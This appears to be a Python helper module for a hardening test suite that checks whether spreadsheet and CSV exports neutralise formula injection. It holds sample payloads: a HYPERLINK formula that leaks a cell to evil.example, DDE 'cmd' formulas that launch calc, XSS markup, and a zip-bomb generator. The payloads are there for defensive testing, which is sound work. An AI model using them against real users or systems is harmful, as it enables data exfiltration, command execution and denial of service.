"""Shared pieces of the hostile-input battery (tests/hardening/test_hostile_*.py): the payloads, readers
for what an export produced, and the tally the battery prints (inputs tried / handled safely)."""

from __future__ import annotations

import csv
import io
import zipfile
from collections import Counter
from collections.abc import Iterable

from openpyxl import load_workbook

from qinqing.core.spreadsheets import FORMULA_TRIGGERS, HARMLESS

# Spreadsheet formula injection: each starts with one of = + - @ TAB CR.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = '<script>alert("qq")</script><img src=x onerror=alert(1)>&amp;'
EMOJI = "企业😀𠮷𝕏诉求"  # 4-byte UTF-8 (utf8mb3 would refuse them)
LONG = "长" * 10_000
NUL = "含\x00空字符"

TALLY: Counter[str] = Counter()


def tally(kind: str, tried: int, safe: int) -> None:
    TALLY[f"{kind} tried"] += tried
    TALLY[f"{kind} safe"] += safe


def xlsx_cells(content: bytes) -> list[tuple[str, object]]:
    """(data type, value) of every cell of every sheet: "f" is a formula."""
    workbook = load_workbook(io.BytesIO(content))
    return [(c.data_type, c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row]


def csv_cells(content: bytes | str) -> list[tuple[str, object]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [("s", value) for row in csv.reader(io.StringIO(text, newline="")) for value in row]


def cells_of(content: bytes | str) -> list[tuple[str, object]]:
    if isinstance(content, bytes) and content.startswith(b"PK\x03\x04"):
        return xlsx_cells(content)
    return csv_cells(content)


def unsafe_cells(cells: Iterable[tuple[str, object]]) -> list[object]:
    """Cells a spreadsheet program would run: formulas, or text starting with a trigger character."""
    return [
        value
        for kind, value in cells
        if kind == "f"
        or (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not HARMLESS.fullmatch(value))
    ]


def check_export(name: str, content: bytes | str, payloads: Iterable[str] = FORMULAS) -> None:
    """CONTENT holds every payload neutralised (with the apostrophe) and no cell that would run."""
    cells = cells_of(content)
    texts = [v for _, v in cells if isinstance(v, str)]
    payloads = list(payloads)
    shown = [p for p in payloads if any(("'" + p.replace("\r", "")) in t.replace("\r", "") for t in texts)]
    bad = unsafe_cells(cells)
    tally("formula injection in exports", len(payloads), len(shown) if not bad else 0)
    assert bad == [], (name, bad[:5])
    assert shown == payloads, (name, sorted(set(payloads) - set(shown)))


def zip_bytes(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(inflated: int = 64 * 1024 * 1024) -> bytes:
    """A small .xlsx-shaped archive whose sheet inflates to INFLATED bytes (about 1,000 times its size)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
            for _ in range(inflated // len(chunk)):
                sheet.write(chunk)
    return buffer.getvalue()
